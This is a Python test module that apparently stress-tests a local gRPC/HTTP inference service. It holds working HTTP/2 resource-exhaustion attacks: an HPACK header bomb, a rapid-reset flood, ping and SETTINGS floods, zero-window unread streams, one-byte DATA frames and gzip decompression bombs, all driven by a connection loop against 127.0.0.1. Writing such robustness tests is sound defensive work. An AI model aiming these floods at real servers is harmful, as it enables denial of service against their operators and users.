"""Attacks over HTTP/2 on a socket: those that take memory, or time beyond what a frame costs.

How much of each frame a connection may send is in `tests/wire/test_http2.py`.
"""

from __future__ import annotations

import contextlib
import gzip
import itertools
import socket
import threading
import time

from tests.service_process import PATIENCE_S
from tests.wire.test_http2 import (
    END,
    INDEXED,
    NEWEST,
    PREFACE,
    WHOLE,
    WINDOW,
    block,
    data,
    field,
    headers,
    ping,
    reset,
    settings,
)

INFER = b"/inference.GRPCInferenceService/ModelInfer"
WATCH = b"/grpc.health.v1.Health/Watch"
REFLECT = b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
BATCH = 64
"""Calls in one send."""
OPENING = PREFACE + settings()
UNREAD = PREFACE + settings((WINDOW, 0))
"""No answer may be sent: the window of each stream is 0."""


def call_headers(path=INFER, extra=b""):
    """A header block that begins a call."""
    fields = (b"content-type", b"application/grpc"), (b"te", b"trailers")
    return block(*fields, method=b"POST", path=path) + extra


def message(content, compressed=0):
    """A message of gRPC."""
    return bytes((compressed,)) + len(content).to_bytes(4, "big") + content


def calls(make, count=BATCH):
    """Batches of what `make` returns for a stream, without end."""
    streams = itertools.count(1, 2)
    while True:
        yield b"".join(map(make, itertools.islice(streams, count)))


def new_headers():
    """Calls with 480 small fields, with a different block in each."""
    fields = field(b"a", b"") * 480
    return calls(
        lambda n: headers(call_headers(extra=field(b"number", b"%d" % n) + fields), WHOLE, n)
    )


def hpack_bomb():
    """Calls with a header in the dynamic table that 1,200 bytes refer to."""
    yield headers(call_headers(extra=INDEXED), WHOLE)
    yield from calls(lambda n: headers(call_headers(extra=NEWEST * 1200), WHOLE, n + 2))


def requests(block, content=b"", count=200):
    """Complete requests."""
    yield b"".join(
        headers(block, WHOLE | END * (not content), n) + (content and data(n, content, END))
        for n in range(1, 2 * count, 2)
    )


SILENT_CALLS = 199
SILENT = b"".join(headers(call_headers(), WHOLE, 2 * n + 1) for n in range(SILENT_CALLS))
"""Calls that send nothing."""


def silent(count, extra=b""):
    yield b"".join(headers(call_headers(extra=extra), WHOLE, 2 * n + 1) for n in range(count))


def tiny_data():
    """Messages of a digit, a byte in a frame, which end a byte early."""
    content = message(bytes(784))[:-1]
    frames = [content[at : at + 1] for at in range(len(content))]
    return calls(
        lambda n: (
            headers(call_headers(), WHOLE, n)
            + b"".join(data(n, one) for one in frames)
            + data(n, b"", END)
        ),
        count=1,
    )


def unread_predictions():
    """Predictions of 80 images each, as fast as the service's windows allow."""
    length = 784 * 80
    fields = (
        (b"content-length", b"%d" % length),
        (b"content-type", b"application/octet-stream"),
    )
    for stream in range(1, 400, 2):
        yield headers(block(*fields, method=b"POST", path=b"/predict"), WHOLE, stream)
        for start in range(0, length, 15_680):
            yield data(stream, bytes(15_680), END * (start + 15_680 == length))
        yield 0.02


def unread_reflection():
    """One call whose many answers are large, of which nothing may be sent."""
    yield headers(call_headers(REFLECT), WHOLE)
    name = b"inference.ModelInferRequest"
    asked = message(b"\x22" + bytes((len(name),)) + name)
    while True:
        yield data(1, asked * 100)
        yield 0.005


def window_settings():
    """Settings that change the windows of many streams, many times."""
    yield SILENT
    while True:
        yield settings(*((WINDOW, 1), (WINDOW, 2)) * 1300)


def bombs():
    """Messages of 12 KiB that are 12 MiB, 40 at a time."""
    bomb = message(gzip.compress(bytes(12 << 20)), 1)
    head = call_headers(extra=field(b"grpc-encoding", b"gzip"))
    for some in calls(lambda n: headers(head, WHOLE, n) + data(n, bomb, END), 40):
        yield some
        yield 0.5


ATTACKS = {
    "new-headers-480": new_headers,
    "hpack": hpack_bomb,
    "reset": lambda: calls(lambda n: headers(call_headers(), WHOLE, n) + reset(n)),
    "open": lambda: silent(100, field(b"a", b"") * 400),
    "silent": lambda: silent(SILENT_CALLS),
    "watch": lambda: requests(call_headers(WATCH), message(b"")),
    "ping": lambda: itertools.repeat(ping() * 1000),
    "window-settings": window_settings,
    "tiny-data": tiny_data,
    "unread-documents": lambda: requests(block(path=b"/openapi.json")),
    "unread-predictions": unread_predictions,
    "unread-reflection": unread_reflection,
    "bombs": bombs,
}
"""Each makes bytes to send, or seconds to wait."""


def connect(port):
    return socket.create_connection(("127.0.0.1", port), PATIENCE_S)


def attack(port, kind, duration_s):
    """Send on one connection after another for that long. Returns: how many there were."""
    until_s, connections = time.monotonic() + duration_s, 0
    while time.monotonic() < until_s:
        with contextlib.suppress(OSError), connect(port) as one:
            one.settimeout(5)
            drain = threading.Thread(target=_read, args=(one,))
            drain.start()
            try:
                one.sendall(UNREAD if kind.startswith("unread") else OPENING)
                for some in ATTACKS[kind]():
                    if isinstance(some, float):
                        time.sleep(some)
                        continue
                    one.sendall(some)
                    if time.monotonic() > until_s:
                        break
                else:
                    time.sleep(max(0, until_s - time.monotonic()))
            finally:
                with contextlib.suppress(OSError):
                    one.shutdown(socket.SHUT_RDWR)
                drain.join()
        connections += 1
    return connections


def _read(connection):
    """To the end; then the attack begins anew on another connection."""
    with contextlib.suppress(OSError):
        while connection.recv(1 << 16):
            pass
        connection.shutdown(socket.SHUT_RDWR)
